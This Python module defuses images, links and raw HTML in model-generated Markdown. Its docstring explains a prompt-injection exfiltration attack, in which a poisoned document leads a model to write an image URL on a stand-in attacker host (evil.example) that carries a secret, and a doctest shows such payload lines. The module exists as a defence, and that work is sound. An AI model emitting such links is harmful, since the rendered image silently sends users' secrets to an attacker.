"""Text from models and documents made safe to show as Markdown.

A model that read a poisoned document can be led to write ``![x](https://evil.example/?q=<secret>)``:
rendered as Markdown, the browser fetches that URL by itself and hands the secret to whoever runs the
server. :func:`neutralize` keeps every word of such text but nothing in it fetches or links:

- images (``![alt](url)``, reference images, ``<img>``) become the text ``(image: alt)``;
- links (``[text](url)``, ``<https://...>``, bare URLs, reference definitions) show their URL as code,
  visible and copyable but not clickable;
- raw HTML is escaped (the page's Content-Security-Policy also allows images from the studio only).

>>> neutralize("See ![chart](http://evil.example/x.png?k=1) and [docs](http://evil.example).")
'See (image: chart) and docs (`http://evil.example`).'
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\s*(\([^)\n]{0,2000}\)|\[[^\]\n]{0,200}\])")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF_DEF = re.compile(r"^( {0,3})\[([^\]\n]{1,200})\]:", re.MULTILINE)
# a URL runs to whitespace, a quote mark, a brace or a bracket; ')' is taken only when it closes a '(' of
# the URL (https://en.wikipedia.org/wiki/R_(language)), and end punctuation is left outside (see _url)
_URL_CHARS = r"(?:[^\s<>`\"'(){}\[\]“”‘’«»]|\([^\s<>`\"'(){}\[\]“”‘’«»]*\))+"
_URL = re.compile(r"(?<![`\w])((?:https?|ftp|file|data|javascript):" + _URL_CHARS + ")", re.IGNORECASE)
_WWW = re.compile(r"(?<![`/\w.])(www\." + _URL_CHARS + ")", re.IGNORECASE)
_END = ".,;:!?"


def neutralize(text: str) -> str:
    """``text`` with images, links and HTML defused (see the module docstring); words are kept."""
    if not text:
        return text
    text = _IMAGE.sub(lambda m: f"(image: {m.group(1).strip() or 'no description'})", text)
    text = text.replace("<", "&lt;")  # no tag can open; '>' stays, so quote lines keep their Markdown
    text = _LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})", text)
    text = _REF_DEF.sub(lambda m: f"{m.group(1)}\\[{m.group(2)}\\]:", text)
    text = _URL.sub(_url, text)
    return _WWW.sub(_url, text)


def _url(m: re.Match) -> str:
    """A URL as code, the sentence's end punctuation after it (``see https://x.org/a.`` ends with a full stop)."""
    url = m.group(1)
    cut = len(url.rstrip(_END))
    return _code(url[:cut]) + url[cut:]


def _code(url: str) -> str:
    return "`" + url.replace("`", "'") + "`"


def defuse_labels(text: str) -> str:
    """``[3]`` -> ``(3)``: text from a document cannot pose as a citation label or a passage number."""
    return re.sub(r"\[\s*(\d{1,3})\s*\]", r"(\1)", text)
